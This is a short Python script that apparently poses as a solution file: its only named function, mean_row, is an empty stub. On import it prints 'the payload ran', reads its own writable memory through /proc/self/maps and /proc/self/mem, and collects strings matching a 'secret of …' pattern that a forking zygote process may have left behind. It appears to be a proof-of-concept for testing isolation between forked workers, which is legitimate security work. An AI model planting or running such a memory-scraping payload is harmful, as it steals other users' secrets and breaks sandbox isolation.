"""Reads its own memory, all of it that is writable, for what the zygote may have left there."""

import re

print("the payload ran", flush=True)
found = set()
with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", 0) as memory:
    for line in maps:
        region, rights = line.split()[:2]
        start, end = (int(part, 16) for part in region.split("-"))
        if rights.startswith("rw") and ("[heap]" in line or end - start <= 1 << 20) and "[v" not in line:
            memory.seek(start)
            try:
                data = memory.read(min(end - start, 61 << 20))
            except OSError:
                continue
            found |= set(re.findall(rb"secret of \w+ \w+: \w{6}", data))
print(found)


def mean_row(x):
    return None
